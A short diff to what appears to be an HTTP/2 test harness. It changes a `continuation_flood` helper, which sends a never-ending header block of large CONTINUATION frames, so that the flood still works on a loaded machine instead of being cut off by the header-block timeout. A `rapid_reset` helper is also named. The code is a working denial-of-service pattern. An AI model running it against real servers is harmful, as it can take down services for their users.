@@ -152,9 +152,12 @@ def rapid_reset(app_port: int, pairs: int = 20_000):
 def continuation_flood(frames: int = 64, size: int = 256 * 1024):
     """One header block that never ends: CONTINUATION after CONTINUATION, no END_HEADERS."""
     def chunks(_h):
-        yield _frame(0x1, 0, 1, b"\x82" * 1000)   # HEADERS, stream 1, no END_HEADERS
-        for _ in range(frames):
-            yield _frame(0x9, 0, 1, b"\x00" * size)
+        # HEADERS (stream 1, no END_HEADERS) in the same TLS record as the first CONTINUATION's
+        # header, so that a loaded machine cannot turn this into the header block timeout.
+        continuation = _frame(0x9, 0, 1, b"\x00" * size)
+        yield _frame(0x1, 0, 1, b"\x82" * 1000) + continuation
+        for _ in range(frames - 1):
+            yield continuation
     return chunks
 
 
